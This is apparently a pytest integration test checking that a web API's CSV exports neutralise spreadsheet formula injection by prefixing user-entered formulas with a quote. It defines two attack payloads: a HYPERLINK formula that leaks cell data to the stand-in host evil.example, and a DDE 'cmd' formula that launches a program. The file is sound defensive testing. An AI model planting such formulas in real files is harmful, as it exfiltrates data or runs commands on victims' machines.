"""CSV formula injection (OWASP), on a live server: text a client wrote that a spreadsheet
would run as a formula leaves every CSV export behind a leading quote; typed numbers (a
negative amount) stay numbers."""

from __future__ import annotations

import csv
import io
import uuid

import httpx

from tests.enterprises.test_annual_reports import report
from tests.enterprises.test_enterprises import body as enterprise_body

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
CMD = "=cmd|' /C calc'!A0"


def _csv_rows(base_url: str, headers: dict[str, str], resource: str) -> dict[str, dict[str, str]]:
    response = httpx.get(
        f"{base_url}/api/v1/exports/{resource}",
        headers=headers,
        params={"format": "csv", "bom": "true"},
        timeout=60,
    )
    assert response.status_code == 200, response.text
    text = response.content.decode("utf-8-sig")
    return {row["id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


class TestCsvInjection:
    def test_an_enterprise_users_formulas_are_inert_in_the_staff_exports(
        self, live_api: tuple[str, dict[str, str]]
    ) -> None:
        base_url, admin = live_api
        created = httpx.post(
            f"{base_url}/api/v1/enterprises", headers=admin, json=enterprise_body()
        )
        assert created.status_code == 201, created.text
        enterprise_id = created.json()["id"]
        email = f"formula-{uuid.uuid4().hex[:8]}@example.com"
        user = httpx.post(
            f"{base_url}/api/v1/users",
            headers=admin,
            json={
                "email": email,
                "password": "long-enough-pw",
                "role": "enterprise",
                "enterprise_id": enterprise_id,
            },
        )
        assert user.status_code == 201, user.text
        token = httpx.post(
            f"{base_url}/api/v1/auth/token",
            data={"username": email, "password": "long-enough-pw"},
        ).json()["access_token"]
        own = {"Authorization": f"Bearer {token}"}
        renamed = httpx.patch(
            f"{base_url}/api/v1/enterprises/{enterprise_id}",
            headers=own,
            json={"contact_name": HYPERLINK},
        )
        assert renamed.status_code == 200, renamed.text
        staff_edit = httpx.patch(
            f"{base_url}/api/v1/enterprises/{enterprise_id}",
            headers=admin,
            json={"short_name": "+1+1", "district": "@SUM(1)"},
        )
        assert staff_edit.status_code == 200, staff_edit.text
        demand = httpx.post(
            f"{base_url}/api/v1/demands",
            headers=own,
            json={
                "enterprise_id": enterprise_id,
                "category": "qualification_recognition",
                "title": CMD,
                "description": "-2+3",
            },
        )
        assert demand.status_code == 201, demand.text
        filed = httpx.put(
            f"{base_url}/api/v1/enterprises/{enterprise_id}/annual-reports/2025",
            headers=admin,
            json=report(net_assets="-1250000.00"),
        )
        assert filed.status_code == 201, filed.text

        enterprise = _csv_rows(base_url, admin, "enterprises")[enterprise_id]
        assert enterprise["contact_name"] == "'" + HYPERLINK
        assert enterprise["short_name"] == "'+1+1"
        assert enterprise["district"] == "'@SUM(1)"
        assert enterprise["name"] == enterprise_body()["name"]
        raised = _csv_rows(base_url, admin, "demands")[demand.json()["id"]]
        assert raised["title"] == "'" + CMD
        if "description" in raised:
            assert raised["description"] == "'-2+3"
        reports = _csv_rows(base_url, admin, "annual-reports")
        (filed_row,) = [row for row in reports.values() if row["enterprise_id"] == enterprise_id]
        assert filed_row["net_assets"] == "-1250000.00"
